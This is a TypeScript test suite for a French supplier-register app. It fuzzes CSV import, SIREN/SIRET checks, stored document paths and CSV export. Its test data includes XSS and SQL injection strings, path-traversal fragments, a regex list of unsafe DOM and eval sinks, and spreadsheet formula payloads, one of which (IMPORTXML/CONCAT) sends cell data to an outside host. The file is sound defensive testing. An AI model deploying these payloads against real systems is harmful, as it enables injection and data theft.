// Issue #7, item 3: what users and other programs feed Vigie, at its worst. Fuzzed CSV files (a
// seeded generator: every failure is reproducible), fuzzed SIREN/SIRET, company names carrying
// markup and control characters, path-like document names, formulas in exported cells. The rules
// are always the same: no crash, a French message when something is refused, nothing already in
// the register lost or altered by a refused input.
//
import { createWriteStream, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import iconv from 'iconv-lite';
import Papa from 'papaparse';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { checkIdentifier, isValidSiren, isValidSiret, LA_POSTE_SIREN, luhnValid, normalizeIdentifier } from '../../src-main/common/identifiers';
import type { ImportReport } from '../../src-main/common/ipc-contract';
import { exportSuppliersCsv } from '../../src-main/node/csv/csv-export';
import { importSuppliersCsv } from '../../src-main/node/csv/csv-import';
import { openDatabase, type VigieDatabase } from '../../src-main/node/db/database';
import { DocumentStore, DocumentStoreError, nodeStoreFs, parseStoredPath, type DocumentStoreFs } from '../../src-main/node/documents/document-store';
import { SupplierRepository } from '../../src-main/node/register/supplier-repository';
import { UserFacingError } from '../../src-main/node/user-facing-error';
import { makeSiren, makeSiret } from '../support/identifiers-fixture';

const ROOT = resolve(import.meta.dirname, '..', '..');

/** mulberry32: small, fast, seeded. */
function prng(seed: number): { next: () => number; int: (max: number) => number; pick: <T>(items: readonly T[]) => T } {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
  const int = (max: number) => Math.floor(next() * max);
  return { next, int, pick: (items) => items[int(items.length)] as (typeof items)[number] };
}

let dir: string;
let db: VigieDatabase;
// outside every range the tests generate (0 to 1,000,000)
const WITNESS = { siren: makeSiren(50_000_000), siret: makeSiret(50_000_000), name: 'Témoin — ne doit pas changer', city: 'Nantes' };

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'vigie-hostile-'));
  db = openDatabase(join(dir, 'vigie.sqlite3'));
  new SupplierRepository(db, () => '2026-11-01T00:00:00.000Z').upsert(WITNESS);
});
afterEach(() => {
  if (db.open) db.close();
  rmSync(dir, { recursive: true, force: true });
});

const witness = () => db.prepare('SELECT siren, siret, name, city, updated_at FROM suppliers WHERE siret = ?').get(WITNESS.siret);
const WITNESS_ROW = { siren: WITNESS.siren, siret: WITNESS.siret, name: WITNESS.name, city: WITNESS.city, updated_at: '2026-11-01T00:00:00.000Z' };

function file(name: string, content: string | Buffer): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

/** Imports, and insists: a report, or a French UserFacingError; anything else fails the test. */
async function importOrRefuse(path: string, dryRun: boolean): Promise<ImportReport | UserFacingError> {
  try {
    return await importSuppliersCsv(db, path, { dryRun });
  } catch (error) {
    expect(error, `unexpected ${String(error)}`).toBeInstanceOf(UserFacingError);
    expect((error as UserFacingError).message).toMatch(/^[A-ZÀ-Ý].*[.:!?»]$/);
    return error as UserFacingError;
  }
}

// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/;

/** Everything in the register is still sound: valid identifiers, no control character, the witness untouched. */
function expectRegisterSound(): void {
  expect(witness()).toEqual(WITNESS_ROW);
  for (const row of db.prepare('SELECT siren, siret, name, city, notes FROM suppliers').all() as Record<string, string | null>[]) {
    expect(isValidSiren(row.siren ?? '')).toBe(true);
    if (row.siret !== null) expect(isValidSiret(row.siret ?? '')).toBe(true);
    for (const text of [row.name, row.city, row.notes]) if (text) expect(text).not.toMatch(CONTROL);
  }
  expect(db.prepare('PRAGMA quick_check').pluck().get()).toBe('ok');
}

describe('fuzzed CSV files', () => {
  it('random bytes, CSV-like noise and sprinkled identifiers: a report or a French refusal, never a crash', async () => {
    const random = prng(0xc5f);
    const alphabet = [';', ',', '\t', '"', '"', '\n', '\r\n', ' ', 'é', '€', '<', '=', 'a', 'Z', '0', '9', "'", '\\'];
    const outcomes = { reports: 0, refusals: 0 };
    for (let i = 0; i < 40; i += 1) {
      let content: Buffer;
      const size = random.int(16 * 1024);
      switch (i % 4) {
        case 0:
          content = Buffer.from(Array.from({ length: size }, () => random.int(256)));
          break;
        case 1:
          content = Buffer.from(Array.from({ length: size / 2 }, () => random.pick(alphabet)).join(''));
          break;
        case 2: {
          const rows = Array.from({ length: 50 }, (_, r) => {
            const cells = Array.from({ length: random.int(6) }, () => Array.from({ length: random.int(12) }, () => random.pick(alphabet)).join(''));
            if (random.next() < 0.5) cells.splice(random.int(cells.length + 1), 0, makeSiret(10_000 + i * 100 + r));
            return cells.join(random.pick([';', ',', '\t']));
          });
          content = Buffer.from(rows.join(random.pick(['\n', '\r\n', '\r'])));
          break;
        }
        default:
          // a valid file with bytes flipped here and there
          content = Buffer.from(`SIRET;Nom\n${Array.from({ length: 30 }, (_, r) => `${makeSiret(20_000 + i * 100 + r)};Nom ${r}`).join('\n')}\n`);
          for (let k = 0; k < 10; k += 1) content[random.int(content.length)] = random.int(256);
      }
      const path = file(`fuzz-${i}.csv`, content);
      for (const dryRun of [true, false]) {
        const outcome = await importOrRefuse(path, dryRun);
        if (outcome instanceof UserFacingError) outcomes.refusals += 1;
        else {
          outcomes.reports += 1;
          expect(outcome.inserted + outcome.updated + outcome.unchanged + outcome.rejected.length).toBeLessThanOrEqual(outcome.totalRows);
          for (const rejected of outcome.rejected) expect(rejected.reason).toMatch(/^[A-ZÀ-Ý]/);
        }
      }
      expectRegisterSound();
    }
    expect(outcomes.reports).toBeGreaterThan(0);
    // an empty file says so in French
    expect(await importOrRefuse(file('empty.csv', ''), true)).toMatchObject({ message: 'Le fichier est vide.' });
  });

  it('a 1 MB line among good rows: the good rows are imported, the huge one refused, nothing crashes', async () => {
    const huge = 'x'.repeat(1024 * 1024);
    const rows = [`${makeSiret(1)};Avant`, `${makeSiret(2)};${huge}`, `${makeSiret(3)};Après`, huge];
    const report = await importOrRefuse(file('long-line.csv', `SIRET;Nom\n${rows.join('\n')}\n`), false);
    expect(report).not.toBeInstanceOf(UserFacingError);
    const names = db.prepare('SELECT siret, length(name) AS length FROM suppliers WHERE siret IN (?, ?, ?) ORDER BY siret').all(makeSiret(1), makeSiret(2), makeSiret(3));
    // the 1 MB name is refused with its reason rather than stored
    expect(names).toHaveLength(2);
    expect((report as ImportReport).rejected.map((r) => r.line)).toEqual([3, 5]);
    expect((report as ImportReport).rejected[0]?.reason).toMatch(/plus de 500 caractères/);
    // a header line of 1 MB without any separator: read, refused in French or reported, not a crash
    const outcome = await importOrRefuse(file('long-header.csv', `${huge}\n${makeSiret(4)};x\n`), true);
    expect(outcome).toBeDefined();
    expectRegisterSound();
  });

  it('an unbalanced quote: no crash, the rows before it imported, the register otherwise unchanged', async () => {
    const content = `SIRET;Nom\n${makeSiret(1)};Un\n${makeSiret(2)};"Deux sans fin\n${makeSiret(3)};Trois\n${makeSiret(4)};Quatre\n`;
    const report = (await importOrRefuse(file('quote.csv', content), false)) as ImportReport;
    expect(report.inserted).toBeGreaterThanOrEqual(1);
    expect(db.prepare('SELECT name FROM suppliers WHERE siret = ?').pluck().get(makeSiret(1))).toBe('Un');
    expectRegisterSound();
  });

  it('an unbalanced quote is reported with its line, in French, instead of swallowing the rows after it', async () => {
    const content = `SIRET;Nom\n${makeSiret(1)};Un\n${makeSiret(2)};"Deux sans fin\n${makeSiret(3)};Trois\n${makeSiret(4)};Quatre\n`;
    const report = (await importOrRefuse(file('quote.csv', content), true)) as ImportReport;
    expect(report.rejected).toEqual([expect.objectContaining({ line: 3, reason: expect.stringMatching(/Guillemet ouvert/) })]);
  });

  it('mixed encodings: no crash, every identifier imported, the Windows-1252 row read right', async () => {
    const content = Buffer.concat([
      Buffer.from(`SIRET;Nom\n${makeSiret(5)};Société UTF-8\n`, 'utf8'),
      iconv.encode(`${makeSiret(6)};Société Windows-1252 à 5 €\n`, 'win1252'),
    ]);
    const report = (await importOrRefuse(file('mixed.csv', content), false)) as ImportReport;
    expect(report.inserted).toBe(2);
    expect(db.prepare('SELECT name FROM suppliers WHERE siret = ?').pluck().get(makeSiret(6))).toBe('Société Windows-1252 à 5 €');
    expectRegisterSound();
  });

  it('a mixed-encoding file keeps its UTF-8 accents and says it mixes encodings', async () => {
    const content = Buffer.concat([
      Buffer.from(`SIRET;Nom\n${makeSiret(5)};Société UTF-8\n`, 'utf8'),
      iconv.encode(`${makeSiret(6)};Société Windows-1252\n`, 'win1252'),
    ]);
    const report = (await importOrRefuse(file('mixed.csv', content), true)) as ImportReport;
    const utf8Row = report.preview.find((cells) => cells[0] === makeSiret(5));
    expect(utf8Row?.[1]).toBe('Société UTF-8');
    expect(report.encoding).toBe('mixed');
    expect(report.warnings.some((w) => /encodages/.test(w.reason))).toBe(true);
  });

  it('a UTF-16 file (Excel « Texte Unicode ») is read with its accents', async () => {
    const text = `SIRET\tNom\r\n${makeSiret(7)}\tSociété\r\n`;
    const content = Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, 'utf16le')]);
    const outcome = (await importOrRefuse(file('utf16.csv', content), false)) as ImportReport;
    expect(outcome).toMatchObject({ encoding: 'utf-16', delimiter: '\t', inserted: 1 });
    expect(db.prepare('SELECT name FROM suppliers WHERE siret = ?').pluck().get(makeSiret(7))).toBe('Société');
    expectRegisterSound();
  });
});

describe('1,000,000 rows', () => {
  // Measured on 2 cores (see the report): importing all 1,000,000 rows takes about 49 s as a dry
  // run and 50 s for real (460 MB resident), three quarters of it in the FTS5 triggers; the cost
  // is linear (4.5 s per 100,000 rows each way). So the suite reads all 1,000,000 rows (encoding
  // scan over 42 MB, delimiter, streaming parse, counts) and imports 50,000 both ways, the same
  // code paths in one transaction at a twentieth of the time; VIGIE_HOSTILE_ROWS=1000000 imports
  // them all.
  const FULL_IMPORT_ROWS = Number(process.env.VIGIE_HOSTILE_ROWS ?? 50_000);
  const ROWS = 1_000_000;
  let bigDir: string;
  let bigFile: string;

  beforeAll(async () => {
    bigDir = mkdtempSync(join(tmpdir(), 'vigie-million-'));
    bigFile = join(bigDir, 'million.csv');
    const out = createWriteStream(bigFile);
    out.write('SIRET;Raison sociale;Ville\r\n');
    let buffer = '';
    for (let i = 0; i < ROWS; i += 1) {
      buffer += `${makeSiret(i)};Fournisseur ${i};Nantes\r\n`;
      if (buffer.length > 1 << 20) {
        if (!out.write(buffer)) await once(out, 'drain');
        buffer = '';
      }
    }
    out.end(buffer);
    await once(out, 'finish');
  }, 60_000);
  afterAll(() => rmSync(bigDir, { recursive: true, force: true }));

  it('reads the whole million-row file in a preview without holding it in memory', async () => {
    const started = performance.now();
    // no identifier column chosen: the rows are counted and previewed, not checked nor stored
    const report = await importSuppliersCsv(db, bigFile, { dryRun: true, mapping: { '1': 'name' } });
    expect(report.totalRows).toBe(ROWS);
    expect(report.preview).toHaveLength(10);
    expect(statSync(bigFile).size).toBeGreaterThan(40_000_000);
    expect(performance.now() - started).toBeLessThan(20_000);
    expectRegisterSound();
  }, 60_000);

  it(`imports ${FULL_IMPORT_ROWS.toLocaleString('en')} rows, dry run then for real, with exact figures`, async () => {
    const path = FULL_IMPORT_ROWS >= ROWS ? bigFile : join(bigDir, 'part.csv');
    if (path !== bigFile) {
      const text = readFileSync(bigFile, 'latin1');
      let end = 0;
      for (let line = 0; line <= FULL_IMPORT_ROWS; line += 1) end = text.indexOf('\n', end) + 1;
      writeFileSync(path, text.slice(0, end), 'latin1');
    }
    const timings: Record<string, number> = {};
    let started = performance.now();
    const preview = await importSuppliersCsv(db, path, { dryRun: true });
    timings.dryRunMs = Math.round(performance.now() - started);
    expect(preview).toMatchObject({ totalRows: FULL_IMPORT_ROWS, inserted: FULL_IMPORT_ROWS, rejected: [] });
    expect(db.prepare('SELECT count(*) FROM suppliers').pluck().get()).toBe(1);
    started = performance.now();
    const real = await importSuppliersCsv(db, path, { dryRun: false });
    timings.importMs = Math.round(performance.now() - started);
    expect(real).toMatchObject({ totalRows: FULL_IMPORT_ROWS, inserted: FULL_IMPORT_ROWS });
    expect(db.prepare('SELECT count(*) FROM suppliers').pluck().get()).toBe(FULL_IMPORT_ROWS + 1);
    expect(witness()).toEqual(WITNESS_ROW);
    console.info(`hostile-input: ${FULL_IMPORT_ROWS} rows`, timings);
  }, FULL_IMPORT_ROWS >= ROWS ? 600_000 : 120_000);
});

describe('fuzzed SIREN and SIRET', () => {
  const SEPARATORS = [' ', '\u00a0', '\u202f', '.', '-', '_', '/'];
  const LOOKALIKE_DIGITS = ['０', '１', '９', '٠', '٣', '۵', '²', '①', '𝟗', 'O', 'l', 'I'];
  const OTHERS = ['a', 'é', '\u0000', '\n', '\t', '+', 'e', 'E', ',', '😀', '\u200b', '\ufeff', '\u202e', '"', "'", '<', '%'];

  it('never throws, and accepts only 9 or 14 ASCII digits with a right checksum', () => {
    const random = prng(0x51e7);
    for (let i = 0; i < 20_000; i += 1) {
      const length = random.pick([0, 1, 8, 9, 10, 13, 14, 15, 17, 30]);
      let raw = '';
      for (let k = 0; k < length; k += 1) {
        const roll = random.next();
        raw += roll < 0.75 ? String(random.int(10)) : roll < 0.87 ? random.pick(SEPARATORS) : roll < 0.94 ? random.pick(LOOKALIKE_DIGITS) : random.pick(OTHERS);
      }
      if (i % 3 === 0) raw = (random.next() < 0.5 ? makeSiret(i) : makeSiren(i)).split('').join(random.pick(['', ' ', '.', '\u00a0']));
      const check = checkIdentifier(raw);
      if (check.ok) {
        expect(check.value).toMatch(/^(\d{9}|\d{14})$/);
        expect(check.value).toBe(normalizeIdentifier(raw));
        expect(check.kind).toBe(check.value.length === 9 ? 'siren' : 'siret');
        expect(check.siren).toBe(check.value.slice(0, 9));
        expect(luhnValid(check.value) || check.value.startsWith(LA_POSTE_SIREN)).toBe(true);
      } else {
        expect(['empty', 'characters', 'length', 'checksum']).toContain(check.reason);
        expect(check.message).toMatch(/^(Saisissez|Le numéro|Un SIREN|Ce (SIREN|SIRET|numéro))/);
      }
      for (const expected of ['siren', 'siret'] as const) expect(() => checkIdentifier(raw, expected)).not.toThrow();
    }
  });

  it('never accepts a wrong checksum: every single-digit change of a valid identifier is refused', () => {
    for (let n = 0; n < 300; n += 1) {
      for (const valid of [makeSiren(n * 7919), makeSiret(n * 7919, n)]) {
        for (let position = 0; position < valid.length; position += 1) {
          for (let digit = 0; digit <= 9; digit += 1) {
            if (String(digit) === valid[position]) continue;
            const changed = `${valid.slice(0, position)}${digit}${valid.slice(position + 1)}`;
            if (changed.startsWith(LA_POSTE_SIREN)) continue;
            const check = checkIdentifier(changed);
            expect(check.ok, changed).toBe(false);
            if (!check.ok) expect(check.reason).toBe('checksum');
          }
        }
      }
    }
  });

  it('stays fast and safe on absurd input', () => {
    const started = performance.now();
    expect(checkIdentifier('1'.repeat(1_000_000)).ok).toBe(false);
    expect(checkIdentifier(' '.repeat(1_000_000)).ok).toBe(false);
    expect(checkIdentifier('١٢٣٤٥٦٧٨٩').ok).toBe(false);
    expect(checkIdentifier('１２３４５６７８９').ok).toBe(false);
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});

describe('names with markup and control characters', () => {
  const HOSTILE_NAMES = [
    '<script>alert(1)</script> & Fils',
    '<img src=x onerror="alert(1)">',
    '</td></tr><tr><td>Injecté',
    '{{constructor.constructor("alert(1)")()}}',
    '${process.exit(1)}',
    "Robert'); DROP TABLE suppliers;--",
    'Entreprise \u202eelbaruaf\u202c',
    'Zéro\u200blargeur',
    'Ligne 1\nLigne 2 ; "citée"',
    '&lt;déjà échappé&gt;',
  ];

  it('round-trip through import and export as the same plain text; control characters removed, nothing else', async () => {
    const withControls = HOSTILE_NAMES.map((name, i) => (i % 3 === 0 ? `\u0007${name}\u0000\u001b` : name));
    const csv = Papa.unparse(
      [['SIRET', 'Raison sociale', 'Notes'], ...withControls.map((name, i) => [makeSiret(100 + i), name, `<b>note</b>\u0008 ${i}`])],
      { delimiter: ';', newline: '\r\n' },
    );
    const report = (await importOrRefuse(file('hostile.csv', csv), false)) as ImportReport;
    expect(report.rejected).toEqual([]);
    const stored = (siret: string) => db.prepare('SELECT name, notes FROM suppliers WHERE siret = ?').get(siret) as { name: string; notes: string };
    HOSTILE_NAMES.forEach((name, i) => expect(stored(makeSiret(100 + i))).toEqual({ name, notes: `<b>note</b> ${i}` }));

    const exported = join(dir, 'export.csv');
    await exportSuppliersCsv(db, exported);
    const text = readFileSync(exported, 'utf8');
    // as text, not as HTML: no entity escaping, no tag stripping
    expect(text).toContain('<script>alert(1)</script> & Fils');
    expect(text).not.toContain('&lt;script');
    const rows = Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { delimiter: ';' }).data;
    HOSTILE_NAMES.forEach((name) => expect(rows.some((row) => row[2] === name)).toBe(true));

    const copy = openDatabase(join(dir, 'copy.sqlite3'));
    try {
      const again = await importSuppliersCsv(copy, exported, { dryRun: false });
      expect(again.rejected).toEqual([]);
      HOSTILE_NAMES.forEach((name, i) => expect(copy.prepare('SELECT name FROM suppliers WHERE siret = ?').pluck().get(makeSiret(100 + i))).toBe(name));
    } finally {
      copy.close();
    }
    expectRegisterSound();
  });

  it('the renderer never turns a string into markup or code', () => {
    const sinks = /dangerouslySetInnerHTML|\.innerHTML\s*=|\.outerHTML\s*=|insertAdjacentHTML|document\.write|\beval\(|new Function\(|srcdoc/;
    const files = readdirSync(join(ROOT, 'src-renderer/src'), { recursive: true, encoding: 'utf8' }).filter((f) => /\.(ts|tsx)$/.test(f));
    expect(files.length).toBeGreaterThan(0);
    const offending = files.filter((f) => sinks.test(readFileSync(join(ROOT, 'src-renderer/src', f), 'utf8')));
    expect(offending).toEqual([]);
  });
});

describe('path-like document names', () => {
  it('the store refuses every name that is not one of its own, without touching the disk', async () => {
    const touched: string[] = [];
    const spying: DocumentStoreFs = {
      ...nodeStoreFs,
      readFile: async (p) => {
        touched.push(p);
        return nodeStoreFs.readFile(p);
      },
      stat: async (p) => {
        touched.push(p);
        return nodeStoreFs.stat(p);
      },
    };
    const store = new DocumentStore({ root: join(dir, 'documents'), fs: spying });
    const random = prng(0xd0c);
    const hex = (n: number) => Array.from({ length: n }, () => '0123456789abcdef'[random.int(16)]).join('');
    const pieces = ['..', '.', '/', '\\', '%2e%2e', '%2f', '\u0000', '∕', '／', '＼', 'C:', '\\\\?\\', '~', 'file:', '//server/share', '.pdf', '.exe', ' ', '\n', hex(2), hex(2), hex(64), 'AB', 'attestation.pdf', 'con', 'nul.pdf'];
    for (let i = 0; i < 1_000; i += 1) {
      const name = Array.from({ length: 1 + random.int(8) }, () => random.pick(pieces)).join('');
      if (parseStoredPath(name) !== null) continue;
      await expect(store.read(name)).rejects.toMatchObject({ kind: 'document_storage', reason: 'invalid_path' });
      expect(() => store.absolutePath(name)).toThrow(DocumentStoreError);
    }
    // near misses of a real name
    const sha = hex(64);
    for (const name of [`${sha.slice(0, 2)}/${sha.slice(2, 4)}/${sha}.pdf `, `${sha.slice(0, 2)}/${sha.slice(2, 4)}/${sha.toUpperCase()}.pdf`, `${sha.slice(0, 2)}∕${sha.slice(2, 4)}∕${sha}.pdf`, `${sha.slice(0, 2)}/${sha.slice(2, 4)}/${sha}.PDF`]) {
      await expect(store.verify(name)).rejects.toMatchObject({ reason: 'invalid_path' });
    }
    expect(touched).toEqual([]);
  });
});

describe('formula injection on export', () => {
  it('no exported cell starts with a formula trigger, whatever field carries it, and values re-import unchanged', async () => {
    const random = prng(0xf0);
    const triggers = ['=', '+', '-', '@', '\t', '\r'];
    const payloads = ['1+1', 'HYPERLINK("https://evil.example","clic")', "cmd|' /C calc'!A0", 'SUM(A1:A9)', '2+3', 'IMPORTXML(CONCAT("http://x/?",A1),"//a")'];
    const repository = new SupplierRepository(db);
    const values: { siret: string; name: string; accountingCode: string; address: string; city: string; notes: string; tags: string[] }[] = [];
    for (let i = 0; i < 60; i += 1) {
      const formula = () => `${random.pick(triggers)}${random.pick(payloads)}`;
      const row = {
        siret: makeSiret(500 + i),
        name: formula(),
        accountingCode: formula(),
        address: formula(),
        city: formula(),
        notes: formula(),
        // tags are written comma-separated (and read split on , and |): these carry neither
        tags: [`${random.pick(triggers)}cmd calc`.trim() || '=x', 'voirie'],
      };
      values.push(row);
      repository.upsert({ siren: row.siret.slice(0, 9), ...row });
    }
    const path = join(dir, 'formulas.csv');
    await exportSuppliersCsv(db, path);
    const rows = Papa.parse<string[]>(readFileSync(path, 'utf8').replace(/^\ufeff/, ''), { delimiter: ';', skipEmptyLines: true }).data;
    for (const row of rows.slice(1)) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);

    const copy = openDatabase(join(dir, 'formulas.sqlite3'));
    try {
      const report = await importSuppliersCsv(copy, path, { dryRun: false });
      expect(report.rejected).toEqual([]);
      const back = new SupplierRepository(copy);
      for (const row of values) {
        const supplier = back.findSame(row.siret.slice(0, 9), row.siret);
        // the guard's apostrophe goes on export and comes off on import: the exact value, leading tab or CR included
        for (const field of ['name', 'accountingCode', 'address', 'city', 'notes'] as const) expect(supplier?.[field]).toBe(row[field]);
        expect(supplier?.tags).toEqual([...row.tags].sort((a, b) => a.localeCompare(b, 'fr')));
      }
    } finally {
      copy.close();
    }
  });
});
